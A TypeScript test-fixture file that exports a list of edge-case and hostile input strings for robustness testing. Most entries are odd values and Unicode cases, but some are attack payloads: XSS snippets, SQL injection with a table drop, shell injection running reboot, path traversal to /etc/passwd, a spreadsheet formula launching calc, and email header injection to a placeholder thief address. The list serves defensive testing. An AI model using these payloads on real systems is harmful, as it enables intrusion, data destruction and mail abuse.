/** Texts that have broken other products, a few of each kind. */
// prettier-ignore
export const naughtyStrings: readonly string[] = [
  // Empty values and lookalikes.
  'undefined', 'null', 'NULL', '(null)', 'nil', 'NaN', 'true', 'hasOwnProperty', '__proto__', 'constructor', '\\', '\\\\',
  // Numbers.
  '0', '-1', '1/0', '1E400', '0x0', '-0.0', '1,000.00', '१२३', '١٢٣', '99999999999999999999999999',
  // Control characters, NUL among them.
  '\0', 'a\0b', '\u0001\u0002\u0008\u000b\u000c\u001b[31mred', '\u007f\u0080\u009f', 'line\r\nbreak', '\u2028\u2029', '\ufeffbom',
  // Lone surrogates and noncharacters.
  '\ud800', 'x\udfffy', '\udc00\ud800', '\ufffe\uffff', '\u{10ffff}',
  // Writing systems, direction, combining marks.
  '社會科學院語學研究所', 'ﬀ ﬃ ß İ ı', 'مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ', '‮override‭', '\u202a\u202e\u2066evil\u2069', 'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮', '\u200b\u200d\u2060',
  '👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸', '\u0301\u0301\u0301', 'Å Å', '\u3164',
  // Markup and scripts.
  // oxlint-disable-next-line no-script-url -- a hostile text is what this list is for
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '</title></textarea>', 'javascript:alert(1)', '<!--', ']]>', '&lt;&#60;&amp;', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}',
  // SQL, LIKE, regular expressions.
  "' or 1=1 --", "'; drop table applications; --", '1 union select * from users', '%', '_', '%_\\%', '\\x27', '$1', '$$', 'e\'\\\\\'', '(?:a+)+$', '.*', '[[:<:]]',
  // Shells, paths, formats.
  '$(reboot)', '`reboot`', '; reboot', '| reboot', '../../../../etc/passwd', 'C:\\con\\con', 'file:///etc/passwd', '%s%n%x%d', '%00', '%c0%ae', '=cmd|"/c calc"!A0', '@SUM(1+1)', '-2+3',
  // Email headers.
  'a\r\nBcc: thief@evil.example', 'a%0d%0aBcc: thief@evil.example', 'x@y.example, thief@evil.example', '<thief@evil.example>',
  // JSON in text, and long text.
  '{"$ne":null}', '[object Object]', '"', '\\u0000', 'x'.repeat(20_000), '𝒳'.repeat(2000), ' '.repeat(2000), 'a '.repeat(2000),
];
